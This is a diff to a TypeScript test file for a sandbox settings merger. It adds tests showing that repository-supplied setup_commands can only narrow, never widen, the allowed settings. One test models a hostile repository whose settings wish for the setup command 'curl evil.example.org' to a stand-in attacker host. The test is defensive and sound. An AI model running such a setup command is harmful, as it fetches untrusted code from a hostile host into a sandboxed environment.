@@ -127,6 +127,18 @@ describe('tighten', () => {
     expect(tighten(top, {})).toEqual(top)
   })
 
+  it('takes the setup commands of the last patch that has some, unless an earlier one turns them off', () => {
+    const folder = { setup_commands: ['npm ci'] }
+    const commandsOf = (top: Partial<SandboxSettings>, ...patches: SandboxSettingsPatch[]) =>
+      tighten(ceilingOf(top), ...patches).setup_commands
+
+    expect(commandsOf({}, folder, {})).toEqual(['npm ci'])
+    expect(commandsOf(folder, { setup_commands: ['make deps'] })).toEqual(['make deps'])
+    expect(commandsOf({}, folder, { setup_commands: [] })).toEqual([])
+    expect(commandsOf({ setup_commands: [] }, folder)).toEqual([])
+    expect(commandsOf({}, {})).toBeUndefined()
+  })
+
   it('does not take a sibling for a folder inside', () => {
     expect(
       tighten(ceilingOf({ allowed_repository_roots: ['/srv/a'] }), {
@@ -150,6 +162,7 @@ describe('the settings file of a hostile repository', () => {
     allowed_repository_roots: ['/srv'],
     destructive_command_patterns: ['make deploy'],
     egress_hosts: ['a.example.com'],
+    setup_commands: [],
   })
   /** The most permissive value of each key. */
   const WISHES: Readonly<Record<string, string>> = {
@@ -165,6 +178,7 @@ describe('the settings file of a hostile repository', () => {
     allowed_repository_roots: '[/, /srv, /etc]',
     destructive_command_patterns: '[]',
     egress_hosts: '["*.example.com", b.example.org]',
+    setup_commands: '[curl evil.example.org]',
   }
 
   it('is tried with every key that there is', () => {
@@ -205,6 +219,7 @@ describe('widenings', () => {
       require_outcome: true,
       approvals: { not_by_owner: true },
       budgets: { tokens: 10 },
+      setup_commands: [],
     })
 
     expect(
@@ -216,6 +231,7 @@ describe('widenings', () => {
         require_outcome: false,
         approvals: { not_by_owner: false },
         results: { push: 'allow' },
+        setup_commands: ['npm ci'],
         budgets: { steps: 5, tokens: 11 },
         max_output_bytes: 104_857_600,
         allowed_repository_roots: ['/srv'],
@@ -228,6 +244,7 @@ describe('widenings', () => {
       'require_outcome',
       'approvals',
       'results',
+      'setup_commands',
       'budgets',
       'max_output_bytes',
       'allowed_repository_roots',
